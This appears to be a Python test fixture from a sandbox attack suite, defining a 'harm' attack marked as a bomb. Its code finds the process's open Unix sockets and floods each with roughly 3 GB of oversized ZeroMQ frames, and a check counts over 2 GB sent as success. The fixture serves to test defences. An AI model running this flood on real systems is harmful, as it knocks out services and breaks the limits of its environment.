"""Sends one message in parts that never end, past every bound on a single part"""

from tests.attacks.attack import Attack

ATTACK = Attack(
    "harm",
    q2="""
import os, socket, stat, struct
part = b"\\x03" + struct.pack(">Q", 30_000_000) + b"x" * 30_000_000  # ZMTP: a long frame, and more follow
sockets = []
for number in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            end = socket.socket(fileno=os.dup(number))
            if end.family == socket.AF_UNIX and end.getsockname() and end.getpeername() is not None:
                end.setblocking(True)
                sockets.append(end)
    except OSError:
        continue
sent = 0
for end in sockets:
    try:
        for _ in range(3_000_000_000 // len(part)):
            end.sendall(part)
            sent += len(part)
    except OSError as fault:
        print(fault)
print("sent", sent)
""",
    q3="reason = 'B' if sent > 2_000_000_000 else 'not done'",
    proof="q3",
    is_bomb=True,
)
